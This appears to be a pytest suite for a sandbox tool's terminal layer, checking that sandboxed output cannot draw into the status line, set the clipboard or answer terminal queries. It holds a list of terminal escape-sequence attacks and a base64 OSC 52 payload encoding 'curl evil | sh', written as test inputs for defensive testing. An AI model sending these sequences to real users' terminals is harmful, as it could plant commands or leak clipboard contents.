# SPDX-License-Identifier: MIT
"""The terminal layer of `lazaret run` (issue 20), on real terminals: each
CLI in a tmux pane (tmux renders the screen; capture-pane reads what the
person sees, -e with its colours). The bottom row is the status line; the
sandbox's output is drawn above it through Lazaret's own emulator, and what
the sandbox prints to attack the terminal (moving into the status row,
scroll regions, resets, OSC 52, reports) never reaches tmux."""
import base64
import json
import os
import re
import shlex
import subprocess
import time

import pytest

from test_config import domain_hash
from test_egress import HOST4, gone, names  # noqa: F401  (fixture)
from test_escalation import attack, esc_domain, session_credentials  # noqa: F401  (fixture)
from test_escalation import paths as esc_paths
from test_prompt import Pane
from test_run import Domain, busybox_image, kill_cli, make_repo  # noqa: F401  (fixture)

W, H = 120, 24


def last_row(p):
    return p.screen().rstrip("\n").split("\n")[-1] if p.screen().count("\n") >= H - 1 else ""


def rows(p):
    return p.screen().split("\n")[:H]


def status(p):
    return rows(p)[H - 1]


def wait_status(p, text, dom=None, timeout=30):
    deadline = time.time() + timeout
    while time.time() < deadline:
        if text in status(p):
            return status(p)
        time.sleep(0.1)
    raise AssertionError(f"the status line never said {text!r}:\n{p.screen()}\n{dom.log() if dom else ''}")


def colored(p):
    """The pane with its escape sequences (capture-pane -e)."""
    return subprocess.run(["tmux", "-S", p.sock, "capture-pane", "-p", "-e", "-t", "0"], capture_output=True,
                          text=True, check=True).stdout


def title(p):
    return subprocess.run(["tmux", "-S", p.sock, "display-message", "-p", "-t", "0", "#{pane_title}"],
                          capture_output=True, text=True).stdout.strip()


def buffers(p):
    return subprocess.run(["tmux", "-S", p.sock, "list-buffers"], capture_output=True, text=True).stdout


@pytest.fixture
def tpanes(lz):
    made = []

    def make(dom, name, *args, env=None, width=W, height=H, cmd=("/bin/sh",)):
        e = {**lz.env, **dom.env, "TERM": "screen", **(env or {})}
        p = Pane(lz.base, name, lz.cmdline(["--config", dom.cfg, "run", *args, "--", *cmd], e), lz.work,
                 width=width, height=height)
        # tmux keeps OSC 52 writes in its paste buffers: what reaches it shows.
        subprocess.run(["tmux", "-S", p.sock, "set", "-g", "set-clipboard", "on"], check=True)
        made.append(p)
        return p

    yield make
    for p in made:
        p.close()


@pytest.fixture
def tdom(lz, busybox_image, names):  # noqa: F811
    """A repository in branch mode whose profile reaches one name through
    the broker (the names lab answers it)."""
    make_repo(lz)
    d = Domain(lz, busybox_image,
               network=f'default_allow = []\ndefault_deny = []\nipv6 = "disabled"\nresolvers = ["{HOST4}"]\n'
                       f'probe_domains = ["ok.example.test:8080"]\n',
               extra='allow_domains = ["ok.example.test:8080"]\n')
    yield d
    gone(lz, d)


def shell(tpanes, dom, name="a", *args, **kw):
    p = tpanes(dom, name, *args, **kw)
    p.type("echo UP$((1+1))\n")
    p.wait("UP2", dom=dom)
    return p


@pytest.fixture
def ndom(lz, busybox_image, names):  # noqa: F811
    """A preset's profile under a global default_allow that reaches the
    names lab's address directly."""
    make_repo(lz)
    d = Domain(lz, busybox_image,
               network=f'default_allow = ["198.51.100.232/29"]\ndefault_deny = []\nipv6 = "disabled"\n'
                       f'resolvers = ["{HOST4}"]\nprobe_domains = ["ok.example.test:8080"]\n',
               extra='preset = "shell"\npersistent_dirs = []\nallow_domains = ["ok.example.test:8080"]\n')
    yield d
    gone(lz, d)


def test_status_line_says_names_only(ndom, tpanes):
    """Issue 41, item 6: the preset's profile has its own address rules
    (none), so the status line says names-only, not sidecar+names."""
    p = shell(tpanes, ndom)
    st = wait_status(p, "names-only", ndom)
    assert "sidecar" not in st and "loopback-only" not in st, st


def test_status_line_counts_what_is_refused(tdom, tpanes, lz):
    p = shell(tpanes, tdom)
    st = wait_status(p, "loopback-only+names", tdom)
    assert "lazaret shell" in st and "refused conn 0" in st and "refused git 0" in st and "sessions 1" in st, st
    # The policy's digest named; no bare Domain hash (issue 42).
    assert re.search(r"sessions 1  loopback-only\+names  policy [0-9a-f]{8}$", st.rstrip()), st
    assert domain_hash("shell", lz.work)[:8] not in st, st
    # The sandbox's terminal is one row shorter.
    p.type("stty size\n")
    p.wait(f"{H - 1} {W}", dom=tdom)
    # A connection to a name no rule lists: counted, and it stands out.
    p.type("wget -q -O - http://unlisted.example.test:8080/x; echo NET=$?\n")
    p.wait("NET=1", dom=tdom)
    wait_status(p, "refused conn 1", tdom)
    assert "\x1b[1m\x1b[37m\x1b[41m refused conn 1" in colored(p) or "41m refused conn 1" in colored(p), colored(p)
    # A git write: refused by the router, counted.
    p.type(f"echo x >> {lz.work}/.git/config; echo GIT=$?\n")
    p.wait("GIT=1", dom=tdom)
    wait_status(p, "refused git 1", tdom)
    # A second terminal: both see two sessions.
    q = shell(tpanes, tdom, "b")
    wait_status(q, "sessions 2", tdom)
    wait_status(p, "sessions 2", tdom)
    assert "refused conn 1" in status(q) and "refused git 1" in status(q), status(q)
    for x in (q, p):
        x.type("exit\n")
        x.wait("LZEXIT=0", dom=tdom)
    # Gone with the session: the status line is erased.
    assert "refused conn" not in p.screen(), p.screen()


def test_no_color(tdom, tpanes, lz):
    p = shell(tpanes, tdom, env={"NO_COLOR": "1"})
    p.type("wget -q -O - http://unlisted.example.test:8080/x; echo NET=$?\n")
    p.wait("NET=1", dom=tdom)
    wait_status(p, "refused conn 1", tdom)
    c = colored(p).split("\n")[H - 1]
    # Bold and underline, reverse video; no colour at all.
    for colour in ("41m", "43m", "37m", "30m", ";41", ";43"):
        assert colour not in c, c
    assert "refused conn 1" in c
    p.type("exit\n")
    p.wait("LZEXIT=0", dom=tdom)


ATTACKS = [
    # The cursor to the last row, then text.
    "\\033[24;1HATTACK1",
    "\\033[99;99HATTACK2",
    # The whole screen as the scroll region, then line feeds at the bottom.
    "\\033[1;24r\\033[24;1H\\n\\n\\nATTACK3\\033[r",
    # Origin mode, a region, and a move below it.
    "\\033[?6h\\033[20;23r\\033[10;1HATTACK4\\033[?6l\\033[r",
    # Cursor down past everything; index; erase everything; reset; DECALN.
    "\\033[200BATTACK5",
    "\\033[23;1H\\033DATTACK6",
    "\\033[2J\\033[3J",
    "\\033c",
    "\\033#8",
    "\\033[23;1H\\033[L\\033[M\\033[5S\\033[5T",
    # libvterm 0.1.4 overruns its argument array past 16 parameters.
    "\\033[" + ";".join(["1"] * 40) + "m",
]


def test_the_sandbox_cannot_draw_into_the_status_line(tdom, tpanes, lz):
    p = shell(tpanes, tdom)
    wait_status(p, "sessions 1", tdom)
    for i, a in enumerate(ATTACKS):
        p.type(f"printf '{a}'; echo; echo DONE{i}X\n")
        p.wait(f"DONE{i}X", dom=tdom)
        time.sleep(0.3)
        st = status(p)
        assert st.startswith(" lazaret shell") and "ATTACK" not in st, (a, p.screen())
    # A title reaches the terminal as printable text; one with a control
    # in it does not at all.
    p.type("printf '\\033]2;lazaret-title-ok\\a'; echo T1X\n")
    p.wait("T1X", dom=tdom)
    deadline = time.time() + 10
    while time.time() < deadline and title(p) != "lazaret-title-ok":
        time.sleep(0.1)
    assert title(p) == "lazaret-title-ok"
    for bad in ("\\033]2;bad\\033[31mx\\a", "\\033]2;bad\\302\\233x\\a", "\\033]2;bad\\001x\\a"):
        p.type(f"printf '{bad}'; echo; echo T2X\n")
        p.wait("T2X", dom=tdom)
        time.sleep(0.3)
        assert title(p) == "lazaret-title-ok", (bad, title(p))
        p.type("clear\n")
    # And it still works.
    p.type("clear; echo STILL$((2+3))\n")
    p.wait("STILL5", dom=tdom)
    assert status(p).startswith(" lazaret shell"), p.screen()
    p.type("exit\n")
    p.wait("LZEXIT=0", dom=tdom)


def query(p, seq, dom):
    """Print seq from the sandbox, then read what comes back as input for a
    second: the answer's bytes, or nothing."""
    p.type(f"stty raw -echo; printf '{seq}'; timeout 1 cat > /tmp/answer; stty sane; "
           f"od -An -tx1 /tmp/answer | tr -d ' \\n'; echo \" Q$((2+2))END\"\n")
    s = p.wait(" Q4END", dom=dom)
    found = [x for x in s.split("\n") if x.rstrip().endswith(" Q4END")]
    assert found, s
    got = bytes.fromhex(found[-1].rstrip()[:-len(" Q4END")].strip())
    p.type("clear\n")
    deadline = time.time() + 10
    while time.time() < deadline and "Q4END" in p.screen():
        time.sleep(0.1)
    return got


@pytest.mark.parametrize("tui", ["status", "none"])
def test_clipboard_and_reports_never_reach_the_terminal(tdom, tpanes, lz, tui):
    p = shell(tpanes, tdom, "a", f"--tui={tui}")
    secret = base64.b64encode(b"curl evil | sh").decode()
    p.type(f"printf '\\033]52;c;{secret}\\a'; echo OSC52DONE\n")
    p.wait("OSC52DONE", dom=tdom)
    time.sleep(0.5)
    assert buffers(p) == "", buffers(p)
    # The clipboard's contents, colours, title: tmux would answer these.
    subprocess.run(["tmux", "-S", p.sock, "set-buffer", "host clipboard secret"], check=True)
    for seq in ("\\033]52;c;?\\a", "\\033]11;?\\a", "\\033]10;?\\033\\\\", "\\033[21t",
                "\\033P+q544e\\033\\\\"):
        got = query(p, seq, tdom)
        assert got == b"", (seq, got)
    # DA2: tmux says 84 ("T"); the answer, if any, is never tmux's.
    got = query(p, "\\033[>c", tdom)
    assert b">84;" not in got, got
    if tui == "status":
        # The emulator answers from the sandbox's own screen.
        assert got.startswith(b"\x1b[>"), got
        got = query(p, "\\033[5;7H\\033[6n", tdom)
        assert got == b"\x1b[5;7R", got
    else:
        assert "refused conn" not in p.screen()
    p.type("exit\n")
    p.wait("LZEXIT=0", dom=tdom)


def test_clipboard_allowed_by_the_profile(lz, busybox_image, tpanes):
    d = Domain(lz, busybox_image, extra="clipboard = true\n")
    p = None
    try:
        p = shell(tpanes, d)
        data = base64.b64encode(b"from the sandbox").decode()
        p.type(f"printf '\\033]52;c;{data}\\a'; echo OSC52DONE\n")
        p.wait("OSC52DONE", dom=d)
        deadline = time.time() + 10
        while time.time() < deadline and "from the sandbox" not in buffers(p):
            time.sleep(0.1)
        assert "from the sandbox" in buffers(p), buffers(p)
        # A read still gets nothing.
        assert query(p, "\\033]52;c;?\\a", d) == b""
        p.type("exit\n")
        p.wait("LZEXIT=0", dom=d)
    finally:
        if p:
            p.close()
        gone(lz, d)


def test_vi_and_a_resize(tdom, tpanes, lz):
    p = shell(tpanes, tdom)
    wait_status(p, "sessions 1", tdom)
    p.type("seq 1 60 | sed 's/^/line /' > /tmp/many.txt; vi /tmp/many.txt\n")
    s = p.wait("line 22", dom=tdom)
    r = rows(p)
    assert r[0].startswith("line 1") and r[H - 3].startswith("line 22"), s
    assert status(p).startswith(" lazaret shell"), s
    # Smaller: vi draws again for 14 rows, the status line at the new bottom.
    subprocess.run(["tmux", "-S", p.sock, "resize-window", "-x", "80", "-y", "15"], check=True)
    deadline = time.time() + 10
    while time.time() < deadline:
        r = p.screen().split("\n")
        if len(r) >= 15 and r[14].startswith(" lazaret shell") and r[12].startswith("line 13"):
            break
        time.sleep(0.1)
    assert r[14].startswith(" lazaret shell") and r[12].startswith("line 13"), p.screen()
    p.type(":q!\n")
    p.type("stty size\n")
    p.wait("14 80", dom=tdom)
    p.type("exit\n")
    p.wait("LZEXIT=0", dom=tdom)


def close_overlay(p, dom):
    p.keys("Escape")
    deadline = time.time() + 10
    while time.time() < deadline and "lazaret events" in p.screen():
        time.sleep(0.1)
    assert "lazaret events" not in p.screen(), p.screen()


def test_overlay_pause_and_resume(tdom, tpanes, lz):
    p = shell(tpanes, tdom)
    wait_status(p, "sessions 1", tdom)
    p.type("wget -q -O - http://unlisted.example.test:8080/x; echo NET=$?\n")
    p.wait("NET=1", dom=tdom)
    # A process whose arguments would clear the screen and set the
    # clipboard, were they printed as they are.
    p.type("/bin/echo \"$(printf '\\033]52;c;ZXZpbA==\\a\\033[2J')EVIL$((1+1))\" >/dev/null; clear\n")
    time.sleep(1)
    before = p.screen().split("\n")[:H - 1]
    p.keys("C-]")
    s = p.wait("lazaret events", dom=tdom)
    assert "network" in s and "unlisted.example.test" in s, s
    # Its record is there, escaped as lazaret events shows it (key=value,
    # not raw JSON: issue 42): nothing of it acted on the terminal.
    s = p.wait('argv=["/bin/echo", "\\x1b]52;c;ZX', dom=tdom)
    assert buffers(p) == "", buffers(p)
    # The filter: the network's records only.
    p.type("f")
    s = p.wait("filter [f]: network", dom=tdom)
    assert "/bin/echo" not in s and "unlisted.example.test" in s, s
    close_overlay(p, tdom)
    # The screen as it was.
    deadline = time.time() + 10
    while time.time() < deadline and p.screen().split("\n")[:H - 1] != before:
        time.sleep(0.1)
    assert p.screen().split("\n")[:H - 1] == before, p.screen()
    # A clock in the sandbox, written into the workspace (branch mode: the
    # agent's worktree).
    p.type("(while :; do date +%s%N > /tmp/tick; cp /tmp/tick /workspace/tick.txt; sleep 0.1; done) & echo BG\n")
    p.wait("BG", dom=tdom)
    tick = os.path.join(tdom.data, "domains", domain_hash("shell", lz.work), "agent-shell", "tick.txt")
    deadline = time.time() + 10
    while time.time() < deadline and not os.path.exists(tick):
        time.sleep(0.1)
    p.keys("C-]")
    p.wait("lazaret events", dom=tdom)
    p.type("p")
    wait_status(p, "PAUSED", tdom)
    p.wait("sandbox PAUSED", dom=tdom)
    a = open(tick).read()
    time.sleep(1.5)
    assert open(tick).read() == a, "the sandbox ran on while paused"
    p.type("p")
    p.wait("sandbox running", dom=tdom)
    deadline = time.time() + 10
    while time.time() < deadline and open(tick).read() == a:
        time.sleep(0.1)
    assert open(tick).read() != a, "the sandbox did not resume"
    assert "PAUSED" not in status(p)
    close_overlay(p, tdom)
    p.type("kill %1; echo AFTER$((3+4))\n")
    p.wait("AFTER7", dom=tdom)
    p.type("exit\n")
    p.wait("LZEXIT=0", dom=tdom)


def test_an_escalation_waiting_in_another_terminal(lz, busybox_image, tpanes, attack):
    """Terminal b asks for a command on the host; while the prompt is up
    there, a's status line counts it, and requests the sandbox could craft
    that are refused before they are read do not take it away; once denied,
    no more. The prompt goes over b's status line and gives it back."""
    d = esc_domain(lz, busybox_image)
    a = b = other = None
    try:
        a = shell(tpanes, d, "a")
        b = shell(tpanes, d, "b")
        wait_status(a, "sessions 2", d)
        b.type("/run/lazaret/escalate --why 'a test asks' -- 'touch denied.txt'; echo RC=$?\n")
        b.wait("[A] Approve", dom=d)
        wait_status(a, "escalations 1", d)
        assert "41m escalations 1" in colored(a).split("\n")[H - 1], colored(a)
        # What a process in the sandbox could send: refused, each with a
        # "decided" record of its own, none of them the waiting request.
        other, sid, cred = session_credentials(d)
        sock, certs = esc_paths(d, lz)
        for mode in ("malformed", "extra", "badsig", "oversized"):
            r = subprocess.run(["runuser", "-u", lz.user.pw_name, "--", attack, sock, certs, sid, cred, "shell", mode,
                                "uname -a"], capture_output=True, text=True, timeout=60)
            assert "approved=0" in r.stdout, (mode, r.stdout, r.stderr)
        wait_status(a, "sessions 3", d)
        time.sleep(1)
        assert "escalations 1" in status(a), status(a)
        kill_cli(other)
        other.wait(timeout=30)
        other = None
        b.keys("d")
        b.wait("RC=126", dom=d)
        wait_status(a, "escalations 0", d)
        wait_status(b, "escalations 0", d)
        for x in (a, b):
            x.type("exit\n")
            x.wait("LZEXIT=0", dom=d)
    finally:
        if other:
            kill_cli(other)
            other.wait(timeout=30)
        for x in (a, b):
            if x:
                x.close()
        deadline = time.time() + 30
        while time.time() < deadline and d.container_names():
            time.sleep(0.2)
        d.assert_clean()
